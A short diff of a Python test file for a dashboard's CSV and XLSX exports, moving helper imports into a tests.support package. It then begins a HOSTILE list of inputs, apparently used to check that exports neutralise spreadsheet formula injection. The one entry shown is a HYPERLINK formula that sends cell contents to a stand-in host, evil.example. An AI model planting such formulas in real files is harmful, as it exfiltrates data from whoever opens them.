@@ -14,9 +14,9 @@ from dashboard.data.db import session_scope
 from dashboard.data.vocab import Role
 from dashboard.exports.catalog import ExportContent
 from dashboard.exports.tables import table_csv, table_xlsx
-from tests.accounts import signed_in_client
-from tests.export_files import csv_rows
-from tests.factories import incident
+from tests.support.accounts import signed_in_client
+from tests.support.export_files import csv_rows
+from tests.support.factories import incident
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
